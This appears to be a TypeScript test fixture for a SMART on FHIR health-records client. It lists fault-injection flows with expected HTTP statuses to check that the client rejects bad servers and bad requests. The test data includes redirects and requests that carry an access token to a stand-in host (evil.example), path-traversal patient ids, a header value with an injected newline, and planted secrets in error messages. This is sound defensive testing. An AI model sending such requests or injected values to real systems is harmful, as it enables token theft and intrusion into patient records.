import { z } from 'zod';
import { PLANTED } from './secrets.js';
import type { Act, Stage } from './stage.js';
import type { Faults } from './talkative-ehr.js';

export interface Flow {
  name: string;
  faults?: Faults;
  /** the statuses on the way, which prove that it went where its name says */
  expected: number[];
  play(stage: Stage): Promise<number[]>;
}

const outcome = (status: number) => (quotation: string) => ({
  status,
  json: {
    resourceType: 'OperationOutcome',
    issue: [{ severity: 'error', code: 'forbidden', diagnostics: quotation }],
  },
});
const text = (status: number) => (quotation: string) => ({ status, text: `<html>${quotation}` });
const redirect = (quotation: string) => ({
  status: 307,
  headers: { location: `https://evil.example/?${encodeURIComponent(quotation)}` },
});
const oauthError =
  (error: string, status = 400) =>
  (quotation: string) => ({
    status,
    json: { error, error_description: quotation, access_token: undefined, debug: quotation },
  });

const afterLaunch = (act: Act) => async (stage: Stage) => [...(await stage.launch()), await stage.act(act)];
const patient: Act = (fhir) => fhir.patient.request();

function launchWith(faults: Faults, name: string, expected: number[]): Flow {
  return { name, faults, expected, play: (stage) => launchUpTo(stage, expected.length) };
}

async function launchUpTo(stage: Stage, steps: number): Promise<number[]> {
  return steps === 1 ? [await stage.toAuthorization()] : stage.launch();
}

const DISCOVERY: Flow[] = [
  launchWith({ configuration: text(500) }, 'a configuration that is an error page', [502]),
  launchWith({ configuration: text(200) }, 'a configuration that is no JSON', [502]),
  launchWith({ configuration: redirect }, 'a configuration elsewhere', [502]),
  launchWith({ configuration: 'silence' }, 'a configuration that never comes', [504]),
  launchWith({ configuration: 'reset' }, 'a configuration that is cut off', [502]),
  launchWith(
    {
      configuration: (quotation) => ({
        json: { token_endpoint: `http://${quotation}`, capabilities: quotation },
      }),
    },
    'a configuration with a bad endpoint',
    [502],
  ),
];

const TOKEN: Flow[] = [
  launchWith({ token: oauthError('invalid_grant') }, 'a code that is refused', [302, 502]),
  launchWith({ token: oauthError('invalid_client', 401) }, 'a client that is refused', [302, 502]),
  launchWith({ token: oauthError(PLANTED.accessToken) }, 'a refusal whose code is a secret', [302, 502]),
  launchWith({ token: text(500) }, 'a token endpoint that shows an error page', [302, 502]),
  launchWith({ token: text(200) }, 'a token response that is no JSON', [302, 502]),
  launchWith({ token: redirect }, 'a token endpoint that redirects', [302, 502]),
  launchWith({ token: 'silence' }, 'a token response that never comes', [302, 504]),
  launchWith({ token: 'reset' }, 'a token response that is cut off', [302, 502]),
  launchWith(
    { token: (quotation) => ({ headers: { 'content-encoding': 'gzip' }, text: quotation }) },
    'a token response that is no gzip',
    [302, 502],
  ),
  ...(
    [
      ['access_token', (quotation) => quotation],
      ['access_token', () => undefined],
      ['token_type', () => PLANTED.refreshToken],
      ['scope', (quotation) => [quotation]],
      ['patient', () => `../${PLANTED.patient}`],
      ['patient', () => undefined],
      ['id_token', (quotation) => quotation],
      ['id_token', (quotation) => `${Buffer.from(quotation).toString('base64url')}.e30.x`],
      ['id_token', (_, good) => `${String(good.id_token)}x`],
    ] as [string, (quotation: string, good: Record<string, unknown>) => unknown][]
  ).map(([member, value], index) =>
    launchWith(
      { token: (quotation, good) => ({ json: { ...good, [member]: value(quotation, good) } }) },
      `a token response with a bad ${member} (${index + 1})`,
      [302, 502],
    ),
  ),
  launchWith({ jwks: text(500) }, 'keys that are an error page', [302, 502]),
  launchWith({ jwks: (quotation) => ({ json: { keys: [quotation] } }) }, 'keys that are none', [302, 502]),
];

const CALLBACK: Flow[] = (
  [
    ['a refusal', { error: 'access_denied', error_description: PLANTED.code }, 403],
    ['an error', { error: 'server_error', error_description: PLANTED.launch }, 502],
    ['an error whose code is a secret', { error: PLANTED.code }, 502],
    ['no code', {}, 400],
    ['a state nobody knows', { state: PLANTED.code, code: PLANTED.code }, 400],
    ['an answer of somebody else', { code: PLANTED.code, iss: `https://evil.example/${PLANTED.code}` }, 400],
    ['a token', { code: PLANTED.code, access_token: PLANTED.code }, 400],
  ] as [string, Record<string, string>, number][]
).map(([name, parameters, status]) => ({
  name: `a callback with ${name}`,
  expected: [302, status],
  play: async (stage) => [await stage.toAuthorization(), await stage.callback(parameters)],
}));

const FHIR: Flow[] = (
  [
    ['a resource that is forbidden', { Patient: outcome(403) }, 403],
    ['a resource that is not there', { Patient: outcome(404) }, 404],
    ['a FHIR server that breaks', { Patient: text(500) }, 502],
    ['a resource that is no JSON', { Patient: text(200) }, 502],
    ['a resource that never comes', { Patient: 'silence' }, 504],
    ['a resource that is cut off', { Patient: 'reset' }, 502],
    ['a resource elsewhere', { Patient: redirect }, 502],
    ['a resource that is too large', { Patient: (quotation) => ({ text: quotation.repeat(99) }) }, 502],
    ['a token that is refused for good', { Patient: outcome(401) }, 401],
    [
      'a refused token that cannot be renewed',
      { Patient: outcome(401), refresh: oauthError('invalid_grant') },
      401,
    ],
    ['a refresh that breaks', { Patient: outcome(401), refresh: text(500) }, 502],
    ['a refresh that never comes', { Patient: outcome(401), refresh: 'silence' }, 504],
    [
      'a refresh for another patient',
      {
        Patient: outcome(401),
        refresh: (_, good) => ({ json: { ...good, patient: `other-${PLANTED.patient}`.slice(0, 60) } }),
      },
      401,
    ],
  ] as [string, Faults, number][]
).map(([name, faults, status]) => ({
  name,
  faults,
  expected: [302, 303, status],
  play: afterLaunch(patient),
}));

const secretsOf = Object.values(PLANTED).join(' ');
const strict = z.object({ name: z.array(z.object({ family: z.literal(secretsOf) })) });

const CALLER: Flow[] = (
  [
    [
      'a resource that does not match',
      (fhir) => fhir.request(`Patient/${PLANTED.patient}`, { schema: strict }),
      502,
    ],
    ['a claim that does not match', async (fhir) => fhir.getClaim('family', z.literal(secretsOf)), 502],
    [
      'a header that is none',
      (fhir) => fhir.request('Patient', { headers: { note: `a\n${secretsOf}` } }),
      400,
    ],
    ['a header name that is none', (fhir) => fhir.request('Patient', { headers: { [secretsOf]: 'a' } }), 400],
    ['another server', (fhir) => fhir.request(`https://evil.example/${PLANTED.accessToken}`), 400],
    [
      'an id that is none',
      (fhir) => fhir.update({ resourceType: 'Patient', id: `../${PLANTED.patient}` }),
      400,
    ],
    [
      'a path nobody serves',
      (fhir) => fhir.request(`Coverage/${PLANTED.patient}?patient=${PLANTED.patient}`),
      404,
    ],
    ['a scope that was not granted', (_, smart) => smart.refresh({ scope: 'user/*.cruds' }), 403],
    ['an abort', (fhir) => fhir.request('Patient', { signal: AbortSignal.abort(new Error(secretsOf)) }), 499],
  ] as [string, Act, number][]
).map(([name, act, status]) => ({
  name: `a caller who asks for ${name}`,
  expected: [302, 303, status],
  play: afterLaunch(act),
}));

const OTHERS: Flow[] = [
  {
    name: 'everything going well',
    expected: [302, 303, 200, 200, 200, 200, 204],
    play: async (stage) => [
      ...(await stage.launch()),
      await stage.act(patient),
      await stage.act((fhir) => fhir.search('Observation', { patient: PLANTED.patient }).toArray()),
      await stage.act((_, smart) => smart.refresh()),
      await stage.act(patient),
      await stage.logout(),
    ],
  },
  {
    name: 'a next link to another server',
    faults: {
      Observation: (quotation) => ({
        json: {
          resourceType: 'Bundle',
          link: [{ relation: 'next', url: `https://evil.example/?${encodeURIComponent(quotation)}` }],
        },
      }),
    },
    expected: [302, 303, 400],
    play: afterLaunch((fhir) => fhir.search('Observation').toArray()),
  },
  {
    name: 'a revocation that fails',
    faults: { revoke: text(500) },
    expected: [302, 303, 204],
    play: async (stage) => [...(await stage.launch()), await stage.logout()],
  },
  {
    name: 'a store that is down',
    expected: [302, 303, 503, 503, 503, 503],
    play: async (stage) => {
      const before = await stage.launch();
      stage.storage.isDown = true;
      return [
        ...before,
        await stage.toAuthorization(),
        await stage.callback(),
        await stage.act(patient),
        await stage.logout(),
      ];
    },
  },
  {
    name: 'no session, no parameters, no such issuer',
    expected: [401, 400, 403],
    play: async (stage) => [
      await stage.act(patient),
      (await stage.get(`/fhir/launch?launch=${PLANTED.launch}`)).status,
      (await stage.get(`/fhir/launch?launch=${PLANTED.launch}&iss=https://evil.example/fhir`)).status,
    ],
  },
];

export const FLOWS: Flow[] = [...OTHERS, ...DISCOVERY, ...CALLBACK, ...TOKEN, ...FHIR, ...CALLER];
